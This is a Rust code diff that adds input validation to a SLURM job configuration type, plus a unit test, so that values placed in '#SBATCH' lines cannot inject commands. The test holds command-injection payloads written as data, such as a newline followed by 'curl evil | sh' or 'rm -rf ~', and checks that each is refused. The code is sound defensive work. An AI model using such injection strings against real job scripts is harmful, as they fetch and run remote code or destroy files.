@@ -5,6 +5,8 @@ use std::collections::BTreeMap;
 use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
 
+use crate::check::Invalid;
+
 /// Seeds and parameter values to expand one experiment into many runs.
 /// Runs = cartesian product of `grid` x the `zip` groups x `seeds`.
 #[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize, JsonSchema)]
@@ -48,5 +50,106 @@ impl Default for SlurmConfig {
             concurrency: 8,
             extra: Vec::new(),
         }
+    }
+}
+
+impl SlurmConfig {
+    /// Every value that reaches an `#SBATCH` line is checked, so a config
+    /// cannot add lines (or commands) to the job script: `time` is digits,
+    /// `:` and `-` (`MM`, `HH:MM:SS`, `D-HH:MM:SS`); `mem` is digits with an
+    /// optional unit `K`, `M`, `G` or `T`; `partition` is letters, digits and
+    /// `_ . , -`; each `extra` entry is one `--option` or `--option=value`
+    /// without spaces, quotes or control characters; the counts are at least 1.
+    pub fn check(&self) -> Result<(), Invalid> {
+        let only = |key: &str, v: &str, ok: &dyn Fn(char) -> bool, what: &str| {
+            if !v.is_empty() && v.chars().all(ok) {
+                Ok(())
+            } else {
+                Err(Invalid::new(key, format!("{v:?} is not {what}")))
+            }
+        };
+        only(
+            "slurm.time",
+            &self.time,
+            &|c| c.is_ascii_digit() || c == ':' || c == '-',
+            "a SLURM time (e.g. 04:00:00 or 1-12:00:00)",
+        )?;
+        let digits = self.mem.trim_end_matches(['K', 'M', 'G', 'T']);
+        if digits.is_empty()
+            || !digits.chars().all(|c| c.is_ascii_digit())
+            || self.mem.len() > digits.len() + 1
+        {
+            return Err(Invalid::new(
+                "slurm.mem",
+                format!("{:?} is not a SLURM memory size (e.g. 4G, 500M)", self.mem),
+            ));
+        }
+        if let Some(p) = &self.partition {
+            only(
+                "slurm.partition",
+                p,
+                &|c| c.is_ascii_alphanumeric() || "_.,-".contains(c),
+                "a partition name (letters, digits, `_ . , -`)",
+            )?;
+        }
+        for (i, e) in self.extra.iter().enumerate() {
+            let ok = e.starts_with("--")
+                && e.len() > 2
+                && e.chars()
+                    .all(|c| c.is_ascii_alphanumeric() || "-_=.,:/@%+".contains(c));
+            if !ok {
+                return Err(Invalid::new(
+                    format!("slurm.extra[{i}]"),
+                    format!(
+                        "{e:?} is not one `--option` or `--option=value` (letters, digits \
+                         and `-_=.,:/@%+`; no spaces, quotes or line breaks)"
+                    ),
+                ));
+            }
+        }
+        if self.cpus_per_task == 0 {
+            return Err(Invalid::new("slurm.cpus_per_task", "must be at least 1"));
+        }
+        if self.concurrency == 0 {
+            return Err(Invalid::new("slurm.concurrency", "must be at least 1"));
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Values that would break out of an `#SBATCH` line are refused with
+    /// their key; ordinary ones pass.
+    #[test]
+    fn slurm_values_are_checked() {
+        let ok = SlurmConfig {
+            partition: Some("gpu-short".into()),
+            time: "1-12:00:00".into(),
+            mem: "16G".into(),
+            extra: vec!["--account=lab".into(), "--exclusive".into()],
+            ..SlurmConfig::default()
+        };
+        assert!(ok.check().is_ok());
+        assert!(SlurmConfig::default().check().is_ok());
+        let bad = |f: &dyn Fn(&mut SlurmConfig), key: &str| {
+            let mut c = SlurmConfig::default();
+            f(&mut c);
+            let e = c.check().unwrap_err();
+            assert_eq!(e.key, key, "{e}");
+        };
+        bad(&|c| c.mem = "4G\ncurl evil | sh".into(), "slurm.mem");
+        bad(&|c| c.mem = "G".into(), "slurm.mem");
+        bad(&|c| c.mem = "4GG".into(), "slurm.mem");
+        bad(&|c| c.time = "01:00 ; rm".into(), "slurm.time");
+        bad(&|c| c.partition = Some("a b".into()), "slurm.partition");
+        bad(
+            &|c| c.extra = vec!["--x=1\nrm -rf ~".into()],
+            "slurm.extra[0]",
+        );
+        bad(&|c| c.extra = vec!["account=lab".into()], "slurm.extra[0]");
+        bad(&|c| c.concurrency = 0, "slurm.concurrency");
     }
 }
